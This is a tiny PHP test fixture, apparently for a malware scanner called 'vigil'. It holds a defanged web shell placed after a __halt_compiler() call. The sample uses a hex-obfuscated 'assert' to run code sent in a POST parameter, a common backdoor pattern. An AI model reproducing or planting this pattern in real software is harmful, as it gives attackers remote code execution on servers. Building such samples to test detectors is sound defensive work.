<?php
/* DEFANGED vigil test sample (see README). __halt_compiler() stops PHP here: nothing below runs. */
__halt_compiler();
<?php
$f = "\x61\x73\x73\x65\x72\x74";
$f($_POST['z']);
